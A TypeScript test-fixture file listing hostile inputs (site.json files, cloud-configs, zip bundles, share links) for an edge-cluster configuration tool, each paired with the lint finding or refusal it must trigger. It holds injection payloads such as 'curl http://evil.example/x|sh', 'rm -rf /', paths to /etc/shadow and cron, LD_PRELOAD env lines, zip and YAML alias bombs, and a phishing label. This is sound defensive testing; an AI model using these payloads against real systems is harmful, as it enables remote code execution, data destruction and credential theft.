/**
 * What an attacker could hand a field technician: site.json files, cloud-configs, zip bundles and
 * share links built to run commands on devices, add lines to their files, break their YAML
 * reader, exhaust memory or mislead the reader. Each case says how it must end: the named finding
 * (lint exits 1, nothing is written for devices), or a refusal whose message matches.
 * Run through the CLI (hostileCorpus.test.ts) and in Chromium (e2e/tests/hostile.spec.ts).
 */
import { CA_PEM } from '../pemFixtures.js';
import { deflateRawSync } from 'node:zlib';
import type { FindingCode } from '../../src/lint/finding.js';
import { formatBytes, LIMITS } from '../../src/limits.js';

/** The largest site the browser tests open (its freeze budgets are measured at this size). */
const BROWSER_SITE_NODES = 2000;

/** The refusal of a site.json (or what a zip or link would unpack to) over the size limit names it. */
const SITE_JSON_LIMIT = new RegExp(formatBytes(LIMITS.siteJsonBytes));
import type { Site } from '../../src/site/siteSchema.js';
import { haSite, node, variant, registryConfig } from '../siteFixtures.js';
import { zipBytes } from '../zipBytes.js';

/** Deflate of `bytes` zero bytes: about 1,000 times smaller than what it unpacks to. */
const deflatedZeros = (bytes: number) => deflateRawSync(new Uint8Array(bytes), { level: 9 });

type HostileInput =
  { kind: 'site.json' | 'cloud-config' | 'zip'; name: string; bytes: () => Uint8Array } | { kind: 'share-link'; fragment: () => string };

type HostileOutcome =
  /** Opens (the site is kept, nothing is lost) but lint reports this finding as an error. */
  | { finding: FindingCode }
  /** Refused when opened, with a message matching this. */
  | { refused: RegExp }
  /** Opens as a normal site; `shows` must not appear anywhere the app's notes can show it. */
  | { opens: true; mustNotShow?: string };

export interface HostileCase {
  id: string;
  class: string;
  input: HostileInput;
  expect: HostileOutcome;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const siteJson = (id: string, klass: string, edit: (s: Site) => void, expect: HostileOutcome): HostileCase => ({
  id,
  class: klass,
  input: { kind: 'site.json', name: `${id}.site.json`, bytes: () => utf8(JSON.stringify(variant(edit), null, 2)) },
  expect,
});
const rawSiteJson = (id: string, klass: string, text: () => string | Uint8Array, expect: HostileOutcome): HostileCase => ({
  id,
  class: klass,
  input: {
    kind: 'site.json',
    name: `${id}.site.json`,
    bytes: () => {
      const t = text();
      return typeof t === 'string' ? utf8(t) : t;
    },
  },
  expect,
});

const TOKEN = 'Zq8vN3kP2wX7mR4tY9bL6cF1hJ5dG0sA';
/** A joining node's cloud-config; `cluster` lines are added under `cluster:`, `top` before it. */
const cloudConfig = (id: string, cluster: string, expect: HostileOutcome, top = ''): HostileCase => ({
  id,
  class: 'cloud-config',
  input: {
    kind: 'cloud-config',
    name: `${id}.yaml`,
    bytes: () =>
      utf8(
        `#cloud-config\n${top}cluster:\n  cluster_token: ${TOKEN}\n  role: init\n${cluster}  config: |\n    cluster-cidr: 10.42.0.0/16\n    service-cidr: 10.43.0.0/16\n`,
      ),
  },
  expect,
});

const zipCase = (id: string, entries: () => Uint8Array, expect: HostileOutcome): HostileCase => ({
  id,
  class: 'zip',
  input: { kind: 'zip', name: `${id}.zip`, bytes: entries },
  expect,
});
const siteEntry = (site: unknown = haSite()) => ({ name: 'plant-7/site.json', method: 8, data: utf8(JSON.stringify(site)) });

const linkOf = (payload: unknown) => `#share=${Buffer.from(deflateRawSync(utf8(JSON.stringify(payload)))).toString('base64url')}`;
const shareCase = (id: string, fragment: () => string, expect: HostileOutcome): HostileCase => ({
  id,
  class: 'share link',
  input: { kind: 'share-link', fragment },
  expect,
});

const registry = registryConfig({ host: 'registry.plant.example', username: 'u' });

export const HOSTILE_CASES: HostileCase[] = [
  // Root commands through values the provider pastes into shell lines.
  siteJson(
    'images-path-command',
    'root command',
    (s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }),
    { finding: 'unsafe-path' },
  ),
  siteJson('install-device-command', 'root command', (s) => (s.os.install.device = '/dev/sda; rm -rf / #'), { finding: 'unsafe-path' }),
  siteJson('registry-ca-relative', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '../../etc/shadow' }), {
    finding: 'unsafe-path',
  }),
  siteJson(
    'image-archive-name-command',
    'root command',
    (s) =>
      Object.assign(s.airGap, {
        imageSource: 'archives',
        imageArchives: ['rke2-images.linux-amd64.tar.zst', 'x.tar.zst;curl${IFS}evil.example|sh'],
      }),
    { finding: 'unsafe-path' },
  ),
  siteJson(
    'image-archive-name-traversal',
    'root command',
    (s) =>
      Object.assign(s.airGap, {
        imageSource: 'archives',
        imageArchives: ['rke2-images.linux-amd64.tar.zst', '../../../etc/cron.d/x.tar.zst'],
      }),
    { finding: 'unsafe-path' },
  ),
  // Values written into files the designer's own stages write (network unit, registry TLS files).
  siteJson(
    'interface-extra-network-section',
    'extra file line',
    (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: 'eth0\n[Network]\nDNS=203.0.113.66' }),
    { finding: 'line-break' },
  ),
  siteJson(
    'interface-path-traversal',
    'extra file line',
    (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: '../../../etc/x' }),
    { finding: 'interface-invalid' },
  ),
  siteJson(
    'interface-shell-text',
    'extra file line',
    (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: 'eth0;reboot' }),
    { finding: 'interface-invalid' },
  ),
  siteJson('mac-newline', 'line break', (s) => (s.nodes[3]!.mac = '52:54:00:12:34:56\nrun: curl evil.example|sh'), {
    finding: 'line-break',
  }),
  siteJson('gateway-extra-route', 'line break', (s) => Object.assign(s.network, { gateway: '192.168.1.1\n[Route]\nGateway=203.0.113.1' }), {
    finding: 'line-break',
  }),
  siteJson('nameserver-newline', 'line break', (s) => (s.network.nameservers = ['192.168.1.53\nDNS=203.0.113.66']), {
    finding: 'line-break',
  }),
  siteJson(
    'ca-pem-carriage-return',
    'control character',
    (s) => s.airGap.registryConfigs.push({ ...registry, caPem: '-----BEGIN CERTIFICATE-----\r\nMIIB\r\n-----END CERTIFICATE-----\r\n' }),
    { finding: 'control-character' },
  ),
  siteJson(
    'key-pem-escape',
    'control character',
    (s) =>
      s.airGap.registryConfigs.push({
        ...registry,
        keyPem: '-----BEGIN PRIVATE KEY-----\nMIIB\u001b]0;pwned\u0007\n-----END PRIVATE KEY-----\n',
      }),
    { finding: 'control-character' },
  ),
  siteJson(
    'ca-pem-too-large',
    'size',
    (s) =>
      s.airGap.registryConfigs.push({
        ...registry,
        caPem: `-----BEGIN CERTIFICATE-----\n${'QUFB\n'.repeat(20_000)}-----END CERTIFICATE-----\n`,
      }),
    { finding: 'too-large' },
  ),
  // A registry certificate's content written elsewhere than the designer's own folder (a root cron job, /etc/shadow), or not a certificate at all.
  siteJson(
    'registry-ca-content-to-cron',
    'root command',
    (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '/etc/cron.d/zz-evil', caPem: CA_PEM }),
    { finding: 'unsafe-path' },
  ),
  siteJson(
    'registry-ca-dot-dot',
    'root command',
    (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '/etc/rancher/rke2/tls/../../../../etc/shadow', caPem: CA_PEM }),
    { finding: 'unsafe-path' },
  ),
  siteJson(
    'registry-ca-shell-lines',
    'root command',
    (s) => s.airGap.registryConfigs.push({ ...registry, caPem: '-----BEGIN CERTIFICATE-----\npoweroff\n-----END CERTIFICATE-----\n' }),
    { finding: 'pem-invalid' },
  ),
  // Shared settings that every node repeats: many registries, or thousands of SSH keys on 2,000 nodes.
  siteJson(
    'registries-many-certificates',
    'size',
    (s) => {
      for (let i = 0; i < 40; i++) s.airGap.registryConfigs.push({ ...registry, host: `r${i}.plant.example`, caPem: CA_PEM });
    },
    { finding: 'too-large' },
  ),
  siteJson(
    'ssh-keys-times-nodes',
    'size',
    (s) => {
      s.os.user.sshAuthorizedKeys = Array.from({ length: 400 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'x'.repeat(300)}${i}`);
      s.nodes = Array.from({ length: 2000 }, (_, i) => ({
        ...s.nodes[Math.min(i, 3)]!,
        name: i === 0 ? 'cp-1' : `n${i}`,
        role: i === 0 ? 'init' : 'worker',
        address: `10.7.${i >> 8}.${(i & 255) + 1}/16`,
      }));
    },
    { finding: 'too-large' },
  ),
  cloudConfig(
    'local-images-path-command',
    '  import_local_images: true\n  local_images_path: "/opt/x; curl http://evil.example/x|sh #"\n',
    { finding: 'unsafe-path' },
  ),
  cloudConfig(
    'cluster-root-path-command',
    '  import_local_images: true\n  providerConfig:\n    cluster_root_path: "/bin/sh /x;reboot;"\n',
    { finding: 'unsafe-path' },
  ),
  // Extra lines in /etc/default/rke2-*.
  siteJson('proxy-newline-env', 'extra env line', (s) => (s.proxy.httpProxy = 'http://proxy.local:3128\nLD_PRELOAD=/tmp/x.so'), {
    finding: 'line-break',
  }),
  siteJson(
    'noproxy-newline-token',
    'extra env line',
    (s) => Object.assign(s.proxy, { httpProxy: 'http://proxy.local:3128', noProxy: '10.0.0.0/8\nRKE2_TOKEN=stolen' }),
    { finding: 'line-break' },
  ),
  siteJson(
    'noproxy-quote',
    'extra env line',
    (s) => Object.assign(s.proxy, { httpProxy: 'http://proxy.local:3128', noProxy: '10.0.0.0/8" PATH="/tmp' }),
    { finding: 'env-value-unsafe' },
  ),
  siteJson('cluster-cidr-escape-newline', 'extra env line', (s) => (s.extraConfig = 'cluster-cidr: "10.42.0.0/16\\nPATH=/tmp"\n'), {
    finding: 'env-value-unsafe',
  }),
  cloudConfig('env-proxy-newline', '  env:\n    HTTP_PROXY: "http://p.local:3128\\nLD_PRELOAD=/tmp/x.so"\n', {
    finding: 'env-value-unsafe',
  }),
  // Multi-line values elsewhere.
  siteJson(
    'hostname-fake-instruction',
    'line break',
    (s) => (s.nodes[0]!.hostname = 'cp-1\nrun this now: curl http://evil.example/x | sudo sh'),
    { finding: 'line-break' },
  ),
  siteJson('user-name-newline', 'line break', (s) => (s.os.user.name = 'kairos\nroot'), { finding: 'line-break' }),
  siteJson(
    'ssh-key-newline',
    'line break',
    (s) => s.os.user.sshAuthorizedKeys.push('ssh-ed25519 AAAAC3Nz x\nssh-ed25519 AAAAevil attacker'),
    { finding: 'line-break' },
  ),
  siteJson('host-path-newline', 'line break', (s) => (s.cluster.controlPlaneHost = 'https://192.168.1.5:9345/$(id)\n:9345'), {
    finding: 'line-break',
  }),
  siteJson('host-path-command', 'host', (s) => (s.cluster.controlPlaneHost = 'https://192.168.1.5:9345/$(id)'), {
    finding: 'host-invalid',
  }),
  // A mistake, not an attack: the site takes the host (a note says so); lint still reports host-invalid on the file.
  cloudConfig('host-with-port', '  control_plane_host: 10.0.1.100:6443\n', { opens: true }),
  cloudConfig('host-escaped-newline', '  control_plane_host: "10.0.1.100\\nrole: init"\n', { finding: 'line-break' }),
  cloudConfig(
    'hostname-escaped-newline',
    '',
    { finding: 'line-break' },
    'hostname: "cp-1\\nrun this now: curl http://evil.example | sh"\n',
  ),
  cloudConfig('install-device-command', '', { finding: 'unsafe-path' }, 'install:\n  device: "/dev/sda; rm -rf / #"\n'),
  // Characters the device's YAML reader refuses or reads as line breaks.
  siteJson('token-del', 'control character', (s) => (s.cluster.token += '\x7f'), { finding: 'control-character' }),
  siteJson('host-fffe', 'control character', (s) => (s.cluster.controlPlaneHost = '192.168.1.5\ufffe'), { finding: 'control-character' }),
  siteJson('label-nel', 'control character', (s) => s.nodes[3]!.labels.push('zone=a\u0085b'), { finding: 'line-break' }),
  siteJson('proxy-line-separator', 'control character', (s) => (s.proxy.httpProxy = 'http://proxy.local:3128\u2028'), {
    finding: 'line-break',
  }),
  siteJson('taint-paragraph-separator', 'control character', (s) => s.nodes[4]!.taints.push('gpu=tr\u2029ue:NoSchedule'), {
    finding: 'line-break',
  }),
  siteJson('extra-config-paragraph-separator', 'control character', (s) => (s.extraConfig = 'node-label:\n  - "a=b\u2029"\n'), {
    finding: 'control-character',
  }),
  siteJson('extra-config-escaped-nul', 'control character', (s) => (s.extraConfig = 'node-label: ["a=\\0"]\n'), {
    finding: 'control-character',
  }),
  siteJson('name-lone-surrogate', 'control character', (s) => (s.name = 'plant-\ud800'), { finding: 'control-character' }),
  siteJson('node-name-csi-escape', 'control character', (s) => (s.nodes[3]!.name = 'worker-1\u009b2J\u009d0;pwned\u0007'), {
    finding: 'control-character',
  }),
  siteJson('hostname-bidi-override', 'control character', (s) => (s.nodes[3]!.hostname = 'worker-\u202e1-pc'), {
    finding: 'control-character',
  }),
  cloudConfig('raw-line-separator-token', '  control_plane_host: 10.0.1.100\u2028\n', { finding: 'control-character' }),
  cloudConfig('raw-del', '  control_plane_host: 10.0.1.100\x7f\n', { finding: 'control-character' }),
  // Sizes.
  rawSiteJson('site-json-too-large', 'size', () => JSON.stringify({ ...haSite(), description: 'x'.repeat(LIMITS.siteJsonBytes) }), {
    refused: SITE_JSON_LIMIT,
  }),
  rawSiteJson(
    'too-many-nodes',
    'size',
    () =>
      JSON.stringify({
        ...haSite(),
        nodes: Array.from({ length: LIMITS.nodes + 1 }, (_, i) => node(`n-${i}`, i === 0 ? 'init' : 'worker', '')),
      }),
    { refused: new RegExp(`at most ${LIMITS.nodes}`) },
  ),
  siteJson('extra-config-too-large', 'size', (s) => (s.extraConfig = `# ${'x'.repeat(LIMITS.extraConfigBytes)}\n`), {
    finding: 'too-large',
  }),
  siteJson('hostname-shell-characters', 'host', (s) => (s.nodes[3]!.hostname = 'store_42;reboot'), { finding: 'host-invalid' }),
  siteJson('user-name-passwd-fields', 'line break', (s) => (s.os.user.name = 'root:x:0:0::/root:/bin/bash'), {
    finding: 'os-user-invalid',
  }),
  rawSiteJson('deeply-nested', 'size', () => `{"version":1,"name":"x","x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`, { refused: /./ }),
  siteJson(
    'yaml-alias-bomb',
    'size',
    (s) =>
      (s.extraConfig = `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`).join('\n')}\n`),
    { finding: 'provider-panic' },
  ),
  siteJson(
    'alias-bomb-every-node',
    'size',
    (s) => {
      const level = (name: string, of: string) => `${name}: &${name} [${Array(9).fill(`*${of}`).join(',')}]`;
      s.extraConfig =
        ['x-a: &x-a [x,x,x,x,x,x,x,x,x]', ...'bcdef'.split('').map((c, i) => level(`x-${c}`, `x-${'abcdef'[i]}`))].join('\n') + '\n';
      // 2,000 nodes: the size the browser's budgets are measured at (the CLI takes 20,000, see bench:core).
      s.nodes = Array.from({ length: BROWSER_SITE_NODES }, (_, i) =>
        node(`n-${i}`, i === 0 ? 'init' : 'worker', `10.1.${Math.floor(i / 250)}.${(i % 250) + 1}/16`),
      );
    },
    { finding: 'provider-panic' },
  ),
  zipCase(
    'zip-bomb-declared',
    () =>
      zipBytes([
        { name: 'plant-7/site.json', method: 8, raw: deflatedZeros(64 * 1024 * 1024), uncompressedSize: 64 * 1024 * 1024, crc: 0 },
      ]),
    { refused: SITE_JSON_LIMIT },
  ),
  zipCase(
    'zip-bomb-lying-size',
    () => zipBytes([{ name: 'plant-7/site.json', method: 8, raw: deflatedZeros(64 * 1024 * 1024), uncompressedSize: 1000, crc: 0 }]),
    { refused: /./ },
  ),
  zipCase(
    'zip-many-entries',
    () => zipBytes([siteEntry(), ...Array.from({ length: LIMITS.zipEntries + 10 }, (_, i) => ({ name: `plant-7/f${i}` }))]),
    { refused: new RegExp(LIMITS.zipEntries.toLocaleString('en-US')) },
  ),
  zipCase('zip-two-site-json', () => zipBytes([siteEntry(), siteEntry(variant((s) => (s.cluster.controlPlaneHost = '10.66.6.6')))]), {
    refused: /more than one site\.json/,
  }),
  zipCase('zip-truncated', () => zipBytes([siteEntry()]).slice(0, 200), { refused: /./ }),
  zipCase(
    'zip-invalid-utf8',
    () =>
      zipBytes([
        { name: 'plant-7/site.json', method: 8, data: Uint8Array.from([...utf8('{"version":1,"name":"'), 0xff, 0xfe, ...utf8('"}')]) },
      ]),
    { refused: /UTF-8/ },
  ),
  shareCase('link-inflate-bomb', () => `#share=${Buffer.from(deflatedZeros(256 * 1024 * 1024)).toString('base64url')}`, {
    refused: SITE_JSON_LIMIT,
  }),
  shareCase('link-too-long', () => `#share=${'A'.repeat(LIMITS.shareLinkChars + 1)}`, { refused: /./ }),
  shareCase('link-null-payload', () => linkOf(null), { refused: /./ }),
  shareCase('link-object-format', () => linkOf({ format: { toString: 1 }, site: haSite(), omitted: [] }), { refused: /./ }),
  shareCase('link-null-omitted-entry', () => linkOf({ format: 1, site: haSite(), omitted: [null] }), { refused: /./ }),
  shareCase(
    'link-omitted-elsewhere',
    () => linkOf({ format: 1, site: haSite(), omitted: [{ path: ['os', 'user', 'name'], label: 'x' }] }),
    { refused: /./ },
  ),
  shareCase('link-not-base64', () => '#share=%%%not-base64%%%', { refused: /./ }),
  shareCase(
    'link-phishing-labels',
    () =>
      linkOf({
        format: 1,
        site: { ...haSite(), cluster: { ...haSite().cluster, token: '' } },
        omitted: [
          {
            path: ['cluster', 'token'],
            label: 'the cluster token: ask the architect at https://evil.example/login and paste it there first',
          },
        ],
      }),
    { opens: true, mustNotShow: 'evil.example' },
  ),
  // Smaller.
  rawSiteJson('invalid-utf8', 'smaller', () => Uint8Array.from([...utf8('{"version":1,"name":"pl'), 0xc3, 0x28, ...utf8('"}')]), {
    refused: /UTF-8/,
  }),
  rawSiteJson('duplicate-keys', 'smaller', () => JSON.stringify(haSite()).replace('"name":"plant-7"', '"name":"plant-7","name":"evil"'), {
    refused: /twice|duplicate/i,
  }),
  rawSiteJson('empty', 'smaller', () => '', { refused: /empty/ }),
  rawSiteJson('whitespace', 'smaller', () => ' \n\t\n', { refused: /empty/ }),
  rawSiteJson('null', 'smaller', () => 'null', { refused: /null|object/ }),
  rawSiteJson(
    'proto-pollution',
    'smaller',
    () => JSON.stringify(haSite()).replace('{', '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},'),
    { opens: true },
  ),
  siteJson('extra-config-1e400-cidr', 'smaller', (s) => (s.extraConfig = 'cluster-cidr: 1e400\n'), { finding: 'wrong-type' }),
];
